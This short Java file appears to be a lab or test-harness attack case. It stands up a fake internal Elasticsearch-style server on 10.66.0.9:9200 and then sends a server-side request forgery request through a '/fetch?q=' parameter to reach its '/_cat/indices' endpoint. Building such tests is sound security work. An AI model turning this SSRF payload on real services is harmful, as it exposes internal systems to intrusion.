import com.sun.net.httpserver.HttpServer;
import java.net.InetSocketAddress;
import whorl.lab.attack.Attacker;

public class Attack {
  public static void main(String[] args) throws Exception {
    HttpServer inner = HttpServer.create(new InetSocketAddress("10.66.0.9", 9200), 0);
    inner.createContext(
        "/",
        exchange -> {
          exchange.sendResponseHeaders(200, 2);
          exchange.getResponseBody().write("{}".getBytes());
          exchange.close();
        });
    inner.start();
    Attacker.get("/fetch?q=" + Attacker.encode("http://10.66.0.9:9200/_cat/indices"));
    Attacker.done();
  }
}
